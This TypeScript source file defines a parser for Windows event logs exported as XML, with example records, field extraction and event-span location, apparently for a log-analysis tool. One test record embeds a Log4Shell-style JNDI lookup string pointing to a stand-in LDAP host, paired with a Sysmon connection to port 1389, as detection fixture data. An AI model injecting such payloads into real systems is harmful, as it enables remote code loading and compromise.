import { readTime } from '../time/read-time.ts'
import type { LogFormat, RecordField, Span } from './format.ts'
import { windowsEvent } from './windows-event.ts'

/** Windows events as XML: what `wevtutil qe LOG /f:xml` and the event viewer write, on one line or on many. */
export const windowsEventXml: LogFormat = {
  id: 'windows-event-xml',
  summary: 'Windows events exported as XML, values by their names; Sysmon and the filtering platform as connections',
  definedBy: 'https://learn.microsoft.com/en-us/windows/win32/wes/eventschema-schema',
  witnesses: ['QueryName', 'DestinationIp', 'DestAddress'],
  examples: {
    reads: [
      {
        record:
          "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='App'/><EventID>1000</EventID><TimeCreated SystemTime='2021-12-12T04:25:41.1234567Z'/><Computer>web1</Computer></System><EventData><Data Name='Message'>login of ${jndi:ldap://x.example/a}</Data><Data>b</Data></EventData></Event>",
        when: '2021-12-12T04:25:41.123Z',
      },
      {
        record:
          "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>\n<System>\n<Provider Name='Microsoft-Windows-Sysmon'/>\n<EventID>3</EventID>\n<TimeCreated SystemTime='2021-12-12T04:25:43Z'/>\n</System>\n<EventData>\n<Data Name='Protocol'>tcp</Data>\n<Data Name='SourceIp'>10.0.0.4</Data>\n<Data Name='DestinationIp'>203.0.113.9</Data>\n<Data Name='DestinationPort'>1389</Data>\n</EventData>\n</Event>",
        when: '2021-12-12T04:25:43Z',
        from: '10.0.0.4',
        saw: { is: 'connection', to: '203.0.113.9', name: null, port: 1389, by: '10.0.0.4', protocol: 'tcp' },
      },
    ],
    refuses: ['<Event>hello</Event>', '<Events>', '<a><System></System></a>'],
  },
  read({ text }, { around }) {
    if (!/^\s*<Event[\s>]/.test(text)) return null
    // More than one: each is to be looked at by itself.
    const end = text.indexOf('</Event>')
    if (end >= 0 && text.slice(end + 8).trim() !== '') return null
    const time = /<TimeCreated SystemTime=['"]([^'"]{10,40})['"]/.exec(text)?.[1]
    if (time === undefined || !/<EventID[\s>]/.test(text)) return null
    const fields = fieldsOf(text)
    return { ...windowsEvent(fields), when: readTime(time, around), fields }
  },
  spans: {
    mark: '<Event',
    mayHold: () => true,
    around: eventAround,
  },
}

const mostFields = 1_024

/** The texts of elements, by the `Name` they have or else by what they are called. */
function fieldsOf(text: string): readonly RecordField[] {
  const fields: RecordField[] = []
  const opens =
    /<([A-Za-z][\w:.-]{0,80})((?:\s{1,8}[\w:.-]{1,40}=(?:'[^'<]{0,2000}'|"[^"<]{0,2000}")){0,12})\s{0,8}>([^<]+)(?=<)/g
  for (const [, element = '', attributes = '', value = ''] of text.matchAll(opens)) {
    if (value.trim() === '') continue
    const name = /\sName=(?:'([^']*)'|"([^"]*)")/.exec(attributes)
    fields.push({ name: name?.[1] ?? name?.[2] ?? element, value: value.trim() })
    if (fields.length >= mostFields) break
  }
  return fields
}

const mostTried = 16

function eventAround(piece: string, place: number): Span | null {
  for (let before = place, tried = 0; tried < mostTried; tried++) {
    const start = piece.lastIndexOf('<Event', before)
    if (start < 0) return null
    if (/[\s>]/.test(piece.charAt(start + 6))) {
      const end = piece.indexOf('</Event>', start)
      return end + 8 > place ? { start, end: end + 8 } : null
    }
    before = start - 1
  }
  return null
}
